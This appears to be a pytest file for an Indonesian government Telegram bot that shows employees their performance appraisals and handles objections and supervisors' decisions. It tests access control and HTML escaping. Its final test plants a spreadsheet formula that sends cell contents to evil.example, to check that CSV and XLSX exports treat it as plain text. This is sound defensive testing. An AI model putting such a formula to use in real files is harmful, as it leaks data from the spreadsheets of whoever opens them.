"""Appraisal results and objections through the real PTB application and the Bot API emulator."""

import asyncio
import csv
from datetime import date
from pathlib import Path

import pytest
from openpyxl import load_workbook
from sqlalchemy import select

from bot.cli import main
from storage.models import AuditEntry, Objection, ObjectionState, OutboxMessage
from storage.ratings import Rating
from storage.services import broadcasts
from storage.services.appraisal_import import COLUMNS, import_appraisals
from storage.services.appraisals import ObjectionPolicy
from storage.services.audience import Audience
from storage.services.linking import link_without_code
from tests.appraisal_factories import ANDI, BUDI, DEWI, RINA, SRI, add_appraisal, add_office

USERS = {ANDI: 101, RINA: 102, SRI: 103, BUDI: 104, DEWI: 105}
REASONS = ("Target kinerja triwulan III sudah tercapai seluruhnya; bukti dukung <laporan> & foto kegiatan "
           "sudah saya unggah di e-Kinerja.")


@pytest.fixture
async def office(uow):
    people = await add_office(uow)
    for nip, user_id in USERS.items():
        async with uow:
            await link_without_code(uow, telegram_user_id=user_id, chat_id=user_id, nip=nip, actor="test")
    return people


@pytest.fixture
async def results(uow, office):
    """Andi: 2026-Q2 (window closed) and 2026-Q3 (published 20 November, open until 4 December)."""
    older = await add_appraisal(uow, period="2026-Q2", published_on=date(2026, 7, 10), feedback=None)
    latest = await add_appraisal(uow, period="2026-Q3")
    return older, latest


def user(emulator, nip):
    return emulator.user(USERS[nip])


async def objections(uow) -> list[Objection]:
    async with uow:
        return list(await uow.session.scalars(select(Objection).order_by(Objection.id)))


async def outbox(uow) -> list[OutboxMessage]:
    async with uow:
        return list(await uow.session.scalars(select(OutboxMessage).order_by(OutboxMessage.id)))


async def press_data(person, data):
    """Press a button with crafted data, on the newest message of the chat (sending /menu first if none)."""
    if not person.messages:
        await person.send("/menu")
    return await person.press_data(data)


async def file_objection(andi, appraisal_id, reasons=REASONS):
    await press_data(andi, f"ob:new:{appraisal_id}")
    await andi.send(reasons)
    return await andi.press("✅ Kirim keberatan")


async def test_linked_employee_sees_the_latest_result_and_the_history(app, emulator, results):
    andi = user(emulator, ANDI)
    (menu,) = await andi.send("/menu")
    assert "📊 Hasil Penilaian Kinerja" in menu.button_texts
    (card,) = await andi.press("📊 Hasil Penilaian Kinerja")
    for fragment in ("Hasil Penilaian Kinerja · Triwulan III 2026", "Hasil Kerja: Sesuai Ekspektasi",
                     "Perilaku Kerja: Di Bawah Ekspektasi", "Predikat Kinerja: Kurang/Misconduct",
                     "Perilaku kerja di bawah ekspektasi", "matriks PermenPANRB 6/2022",
                     "Pejabat penilai: Dewi Lestari, S.Sos., Kepala Seksi Pemerintahan (NIP 19900708 201503 2 004)",
                     "Diterbitkan: 20 November 2026", "Tingkatkan kedisiplinan & ketepatan waktu.",
                     "sampai 4 Desember 2026: tinggal 7 hari lagi"):
        assert fragment in card.text, fragment
    assert "&amp;" in card.html and "<blockquote>" in card.html  # feedback is escaped and quoted
    assert card.button_texts[0] == "✍️ Ajukan keberatan"
    (history,) = await andi.press("🗂 Hasil sebelumnya")
    assert history.button_texts[:2] == ["Triwulan III 2026 · Kurang/Misconduct", "Triwulan II 2026 · Kurang/Misconduct"]
    (older,) = await andi.press("Triwulan II 2026 · Kurang/Misconduct")
    assert "Triwulan II 2026" in older.text and "Tidak ada umpan balik" in older.text
    assert "sudah berakhir pada 24 Juli 2026" in older.text and "✍️ Ajukan keberatan" not in older.button_texts
    await andi.send("/nilai")
    (matrix,) = await andi.press("📐 Cara menentukan predikat")
    assert "Hasil Kerja Di Bawah Ekspektasi" in matrix.text and "Perilaku Kerja Di Bawah Ekspektasi → Sangat Kurang" \
        in matrix.text and matrix.text.count("→") == 9


async def test_no_result_yet_unlinked_users_and_group_chats(app, emulator, office, uow):
    (empty,) = await user(emulator, ANDI).send("/nilai")
    assert "Belum ada hasil penilaian" in empty.text and "👥 Penilaian Tim" not in empty.button_texts
    await add_appraisal(uow)
    group = emulator.group(-1001, title="Grup Kantor Camat")
    (pointer,) = await group.send(USERS[ANDI], "/nilai")
    assert "chat pribadi" in pointer.text and "Kurang" not in pointer.text
    (stranger,) = await emulator.user(999).send("/nilai")
    assert "belum terhubung" in stranger.text and stranger.button_texts[0] == "🔗 Hubungkan akun saya"
    (listing,) = await emulator.user(999).send("/keberatan")
    assert "belum terhubung" in listing.text


async def test_nobody_sees_another_employees_result_even_with_crafted_buttons(app, emulator, results, uow):
    sri = user(emulator, SRI)
    await sri.send("/nilai")
    latest = results[1]
    for data in (f"ap:v:{latest.id}", f"ob:new:{latest.id}", f"ap:v:{latest.id + 50}"):
        (refused,) = await press_data(sri, data)
        assert "Hasil penilaian ini tidak tersedia untuk Anda." in refused.text and "Kurang" not in refused.text
        assert sri.callback_answers[-1].text == "Hasil penilaian ini tidak tersedia untuk Anda."
    (team,) = await press_data(sri, "tm:0")
    assert "Belum ada pegawai" in team.text and "Andi" not in team.text
    for data in ("ap:v:abc", f"ap:v:{latest.id};drop", "ob:a:1:zz"):
        (stale,) = await press_data(sri, data)
        assert "kedaluwarsa" in stale.text
    async with uow:
        assert "appraisal.viewed" not in (await uow.session.scalars(select(AuditEntry.action))).all()


async def test_objection_inside_the_window_goes_to_the_raters_superior(app, emulator, office, results, uow):
    andi = user(emulator, ANDI)
    await andi.send("/nilai")
    (ask,) = await andi.press("✍️ Ajukan keberatan")
    assert "Rina Marlina, S.E., Sekretaris Kecamatan" in ask.text and "atasan pejabat penilai Anda" in ask.text
    (summary,) = await andi.send(REASONS)
    assert "&lt;laporan&gt; &amp; foto" in summary.html and "Kepada: Rina Marlina, S.E." in summary.text
    (done,) = await andi.press("✅ Kirim keberatan")
    (objection,) = await objections(uow)
    assert f"Keberatan Anda no. {objection.id} telah diajukan" in done.text and "statusnya sekarang: diajukan" \
        in done.text
    rina_id = office[RINA].id
    assert (objection.state, objection.addressee_id, objection.reasons) == (ObjectionState.FILED, rina_id, REASONS)
    assert [(message.employee_id, message.kind) for message in await outbox(uow)] == [
        (rina_id, "objection.filed"), (office[DEWI].id, "objection.explain"), (office[BUDI].id, "objection.copy-filed")]
    (card,) = await andi.send("/nilai")
    assert f"Keberatan no. {objection.id} berstatus diajukan" in card.text
    assert "✍️ Ajukan keberatan" not in card.button_texts
    (listing,) = await andi.send("/keberatan")
    assert f"No. {objection.id}" in listing.text and "Triwulan III 2026 · status: diajukan" in listing.text
    assert "✍️ Ajukan keberatan baru" not in listing.button_texts  # nothing left to object to: no dead button
    (duplicate,) = await andi.press_data(f"ob:new:{results[1].id}")  # e.g. an old button
    assert f"sudah memiliki keberatan yang belum diputuskan (no. {objection.id})" in duplicate.text
    assert len(await objections(uow)) == 1


async def test_objection_outside_the_window_is_refused_with_the_closing_date(app, emulator, results, uow):
    andi = user(emulator, ANDI)
    await andi.send("/keberatan")
    (choice,) = await andi.press("✍️ Ajukan keberatan baru")
    assert choice.button_texts[0] == "Triwulan III 2026 · Kurang/Misconduct" and len(choice.buttons) == 2
    (refused,) = await press_data(andi, f"ob:new:{results[0].id}")
    assert "Masa pengajuan keberatan untuk hasil ini sudah berakhir pada 24 Juli 2026." in refused.text
    assert await objections(uow) == []


async def test_too_short_and_too_long_reasons_are_asked_again_never_cut(app, emulator, results, uow):
    andi = user(emulator, ANDI)
    await press_data(andi, f"ob:new:{results[1].id}")
    (short,) = await andi.send("Tidak setuju.")
    assert "paling sedikit 30 karakter; teks ini baru 13 karakter" in short.text
    (long,) = await andi.send("Alasan " * 400)
    assert "paling banyak 2.000 karakter; teks ini 2.799 karakter" in long.text
    assert "belum ada yang disimpan" in long.text
    (wrong_file,) = await andi.send_document("nilai.xlsx", b"PK")
    assert "foto atau berkas PDF" in wrong_file.text
    (summary,) = await andi.send(REASONS)
    assert "Periksa kembali" in summary.text
    (again,) = await andi.press("✏️ Tulis ulang")
    assert "Tulis ulang" in again.text
    (refused,) = await andi.press_data("ob:ok")  # the old text was dropped
    assert andi.callback_answers[-1].text == "Silakan tulis alasan keberatan Anda terlebih dahulu."
    assert "⚠️ Silakan tulis alasan keberatan Anda terlebih dahulu." in refused.text
    assert await objections(uow) == []
    (still_writing,) = await andi.send(REASONS)  # the draft waits for its reasons
    assert "Periksa kembali" in still_writing.text
    (cancelled,) = await andi.press("✖️ Batal")
    assert "Dibatalkan" in cancelled.text and await objections(uow) == []


async def test_supervisor_accepts_with_corrected_ratings_history_keeps_both(app, emulator, office, results, uow):
    await file_objection(user(emulator, ANDI), results[1].id)
    (objection,) = await objections(uow)
    rina = user(emulator, RINA)
    (home,) = await rina.send("/nilai")
    assert "📥 Keberatan masuk (1)" in home.button_texts and "👥 Penilaian Tim" in home.button_texts
    await rina.press("📥 Keberatan masuk (1)")
    (detail,) = await rina.press(f"📨 No. {objection.id} · Andi Pratama, A.Md.")
    assert "&lt;laporan&gt;" in detail.html and "NIP 19921130 201903 1 005" in detail.text
    (processing,) = await rina.press("🔄 Tandai sedang diproses")
    assert "Ditandai sedang diproses" in processing.text and "🔄 Tandai sedang diproses" not in processing.button_texts
    await rina.press("✅ Terima dengan koreksi penilaian")
    await rina.press("Sesuai Ekspektasi")
    (summary,) = await rina.press("Sesuai Ekspektasi")
    assert "Perilaku Kerja: Di Bawah Ekspektasi → Sesuai Ekspektasi" in summary.text
    assert "Predikat Kinerja: Kurang/Misconduct → Baik" in summary.text
    (ask,) = await rina.press("✍️ Tulis alasannya")
    assert "Tulis alasan menerima keberatan ini" in ask.text
    (short,) = await rina.send("Setuju.")
    assert "paling sedikit 30 karakter" in short.text
    (confirm,) = await rina.send("Bukti dukung lengkap: target triwulan III tercapai seluruhnya.")
    assert "Alasan keputusan" in confirm.text and "bersifat final" in confirm.text
    (done,) = await rina.press("✅ Terima dan koreksi")
    assert "Keberatan diterima" in done.text and "(versi 2)" in done.text

    andi = user(emulator, ANDI)
    replies = await andi.send("/nilai")  # the outbox may deliver the decision notices meanwhile
    card = next(reply for reply in replies if "Hasil Penilaian Kinerja" in reply.text or "Predikat" in reply.text)
    assert "Predikat Kinerja: Baik" in card.text and f"keberatan no. {objection.id} diterima" in card.text
    (history,) = await andi.press("🗂 Hasil sebelumnya")
    assert history.button_texts[:2] == ["Triwulan III 2026 · Baik",
                                        "Triwulan III 2026 · Kurang/Misconduct (versi 1, sudah diganti)"]
    (old,) = await andi.press("Triwulan III 2026 · Kurang/Misconduct (versi 1, sudah diganti)")
    assert "Versi lama" in old.text and "✏️ Versi yang dikoreksi" in old.button_texts
    kinds = [(message.kind, message.employee_id) for message in await outbox(uow)]
    andi_id = results[1].employee_id
    assert kinds[3:] == [("objection.in_progress", andi_id), ("objection.accepted", andi_id),
                         ("objection.copy-accepted", office[BUDI].id)]
    (state,) = await objections(uow)
    assert state.state == ObjectionState.ACCEPTED


async def test_hr_rejects_with_a_reason_and_the_employee_is_told(app, emulator, results, uow):
    await file_objection(user(emulator, ANDI), results[1].id)
    (objection,) = await objections(uow)
    budi = user(emulator, BUDI)
    await press_data(budi, f"ob:v:{objection.id}")
    (ask,) = await budi.press("❌ Tolak")
    assert "Tulis alasan penolakan" in ask.text
    (short,) = await budi.send("Tidak.")
    assert "paling sedikit 30 karakter" in short.text
    (summary,) = await budi.send("Bukti dukung tidak sesuai dengan rencana hasil kerja triwulan III.")
    assert "Tolak keberatan no." in summary.text
    (done,) = await budi.press("❌ Tolak keberatan")
    assert "ditolak" in done.text
    message = (await outbox(uow))[-1]
    assert (message.kind, message.employee_id) == ("objection.rejected", results[1].employee_id)
    (detail,) = await press_data(user(emulator, ANDI), f"ob:v:{objection.id}")
    assert "Alasan keputusan" in detail.text and "Diputuskan oleh Budi Santoso, S.Kom." in detail.text
    assert "bersifat final" in detail.text
    async with uow:
        assert "objection.rejected" in (await uow.session.scalars(select(AuditEntry.action))).all()


async def test_evidence_with_the_filing_and_the_raters_explanation_reach_the_superior(app, emulator, results, uow):
    andi = user(emulator, ANDI)
    await press_data(andi, f"ob:new:{results[1].id}")
    (kept,) = await andi.send_photo(b"\xff\xd8 foto laporan")
    assert "Bukti disimpan" in kept.text
    (summary,) = await andi.send(REASONS)
    assert "📎 Bukti: foto" in summary.text
    await andi.press("✅ Kirim keberatan")
    (objection,) = await objections(uow)
    assert objection.evidence_kind == "photo" and objection.evidence_file_id

    dewi = user(emulator, DEWI)
    (ask,) = await press_data(dewi, f"ob:ex:{objection.id}")
    assert "Tulis penjelasan Anda" in ask.text and "&lt;laporan&gt;" in ask.html
    (sent,) = await dewi.send("Dua laporan kegiatan triwulan III tidak pernah diserahkan sampai batas waktu.")
    assert "Penjelasan Anda telah dikirim kepada Rina Marlina, S.E." in sent.text
    (refused,) = await press_data(dewi, f"ob:a:{objection.id}:mm")  # the rater explains, never decides
    assert "tidak tersedia" in refused.text

    rina = user(emulator, RINA)
    (detail,) = await press_data(rina, f"ob:v:{objection.id}")
    assert "Penjelasan pejabat penilai" in detail.text and "tidak pernah diserahkan" in detail.text
    assert "📎 Bukti terlampir: foto" in detail.text and "Batas waktu keputusan: 11 Desember 2026" in detail.text
    (photo,) = await rina.press("📎 Lihat bukti")
    assert photo.photo is not None and photo.photo.content == b"\xff\xd8 foto laporan"
    (stranger,) = await press_data(user(emulator, SRI), f"ob:ev:{objection.id}")
    assert "tidak tersedia" in stranger.text and stranger.photo is None
    await press_data(rina, f"ob:r:{objection.id}")
    (summary,) = await rina.send("Laporan kegiatan memang tidak diserahkan; penilaian sudah sesuai.")
    assert "tidak pernah diserahkan" in summary.text  # the explanation is on the screen where she decides


async def test_the_rater_cannot_decide_and_the_employee_cannot_decide_their_own(app, emulator, results, uow):
    await file_objection(user(emulator, ANDI), results[1].id)
    (objection,) = await objections(uow)
    for nip in (DEWI, ANDI):
        (refused,) = await press_data(user(emulator, nip), f"ob:a:{objection.id}:mm")
        assert "Keberatan ini tidak tersedia untuk Anda." in refused.text
    (refused,) = await press_data(user(emulator, ANDI), f"ob:A:{objection.id}:aa")
    assert "tidak tersedia" in refused.text
    assert (await objections(uow))[0].state == ObjectionState.FILED


async def test_team_view_lists_latest_predikat_and_audits_each_view(app, emulator, results, uow):
    await add_appraisal(uow, SRI, results=Rating.ABOVE, behaviour=Rating.ABOVE)
    dewi = user(emulator, DEWI)
    await dewi.send("/nilai")
    (team,) = await dewi.press("👥 Penilaian Tim")
    assert "Hasil terbaru dari 2 pegawai" in team.text
    assert "Sangat Baik: 1 · Kurang/Misconduct: 1" in team.text
    assert "Sri Wahyuni &lt;Sri&gt; &amp; Co" in team.html
    (card,) = await dewi.press("1. Andi Pratama, A.Md.")
    assert "👤 Andi Pratama, A.Md." in card.text and "Ajukan keberatan" not in card.text
    async with uow:
        viewed = (await uow.session.scalars(select(AuditEntry).where(AuditEntry.action == "appraisal.viewed"))).all()
    assert [(entry.subject, entry.details["relation"]) for entry in viewed] == [
        (ANDI, "rater"), (SRI, "rater"), (ANDI, "rater")]


async def test_feedback_longer_than_one_message_is_split_cleanly(app, emulator, office, uow):
    feedback = "Umpan balik <penting> & rinci untuk triwulan ini. " * 90  # about 4,500 characters
    await add_appraisal(uow, period="2026-Q3", feedback=feedback[:4000])
    andi = user(emulator, ANDI)
    first, second = await andi.send("/nilai")
    assert first.buttons == [] and second.button_texts[0] == "✍️ Ajukan keberatan"
    assert "<blockquote>" in first.html and second.html.startswith("<blockquote>")
    assert (first.text + " " + second.text).count("<penting>") == feedback[:4000].count("<penting>")
    await andi.press("📐 Cara menentukan predikat")
    edited, added = await andi.press("⬅️ Kembali")  # a button press edits its message and adds the rest
    assert edited.edits == 2 and edited.buttons == [] and added.button_texts[0] == "✍️ Ajukan keberatan"


async def test_import_with_bad_rows_then_reimport_shows_the_new_result(app, emulator, office, uow, tmp_path):
    policy = ObjectionPolicy(14)
    bad = tmp_path / "skp.csv"
    bad.write_text(",".join(COLUMNS) + f"\n{ANDI},2026-Q3,sesuai,baik sekali,{DEWI},,2026-11-20\n", encoding="utf-8")
    async with uow:
        report = await import_appraisals(uow, bad, actor="cli:hr", policy=policy)
    assert [(error.row, error.column) for error in report.errors] == [(2, "perilaku_kerja")]
    (empty,) = await user(emulator, ANDI).send("/nilai")
    assert "Belum ada hasil penilaian" in empty.text
    for typed, shown, predikat in (("dibawah", "Di Bawah Ekspektasi", "Kurang/Misconduct"),
                                   ("Di Atas Ekspektasi", "Di Atas Ekspektasi", "Baik")):
        bad.write_text(",".join(COLUMNS) + f"\n{ANDI},2026-Q3,sesuai,{typed},{DEWI},,2026-11-20\n", encoding="utf-8")
        async with uow:
            assert (await import_appraisals(uow, bad, actor="cli:hr", policy=policy)).written
        (card,) = await user(emulator, ANDI).send("/nilai")
        assert f"Perilaku Kerja: {shown}" in card.text and f"Predikat Kinerja: {predikat}" in card.text
    assert [message.kind for message in await outbox(uow)] == ["appraisal.published", "appraisal.updated"]


HYPERLINK = '=HYPERLINK("http://evil.example/?d="&C2,"Bukti")'  # clicked, it would send cell C2 away


def spreadsheet_rows(path: Path) -> list[tuple]:
    if path.suffix == ".csv":
        with path.open(encoding="utf-8-sig", newline="") as handle:
            return [tuple(row) for row in csv.reader(handle, delimiter=";")]
    return [tuple(row) for row in load_workbook(path).active.iter_rows()]


async def test_text_people_typed_reaches_hr_spreadsheets_as_text_never_as_a_formula(
        app, emulator, results, uow, database_url, tmp_path, monkeypatch):
    async with uow:
        andi = await uow.employees.by_nip(ANDI)
        andi.name, andi.unit = "@Andi Pratama", "+Seksi Pemerintahan"
        await uow.commit()
    await file_objection(user(emulator, ANDI), results[1].id, HYPERLINK)  # typed on Telegram
    async with uow:
        broadcast = await broadcasts.publish(uow, author=None, parts=["-10% anggaran"], audience=Audience(units=(
            "+Seksi Pemerintahan",)), ask_acknowledgement=False, actor="test")
    monkeypatch.chdir(tmp_path)
    monkeypatch.setenv("DATABASE_URL", database_url)
    for suffix in (".xlsx", ".csv"):
        objections_file, broadcast_file = tmp_path / f"keberatan{suffix}", tmp_path / f"pengumuman{suffix}"
        assert await asyncio.to_thread(main, ["report", "objections", "--out", str(objections_file)]) == 0
        assert await asyncio.to_thread(main, ["report", "broadcast", str(broadcast.id), "--out",
                                              str(broadcast_file)]) == 0
        (_, objection), (_, recipient) = spreadsheet_rows(objections_file), spreadsheet_rows(broadcast_file)
        if suffix == ".csv":  # an apostrophe keeps a field from being run; numbers and NIPs as they are
            assert (objection[0], objection[2], objection[3], objection[11]) == (
                "1", ANDI, "'@Andi Pratama", "'" + HYPERLINK)
            assert recipient[:3] == (ANDI, "'@Andi Pratama", "'+Seksi Pemerintahan")
            continue
        assert (objection[11].value, objection[11].data_type) == (HYPERLINK, "s")  # a string, not a formula
        assert [(cell.value, cell.data_type) for cell in (objection[2], objection[3])] == [
            (ANDI, "s"), ("@Andi Pratama", "s")]
        assert (objection[0].value, objection[0].data_type) == (1, "n")  # a number stays a number
        assert [(cell.value, cell.data_type) for cell in recipient[:3]] == [
            (ANDI, "s"), ("@Andi Pratama", "s"), ("+Seksi Pemerintahan", "s")]
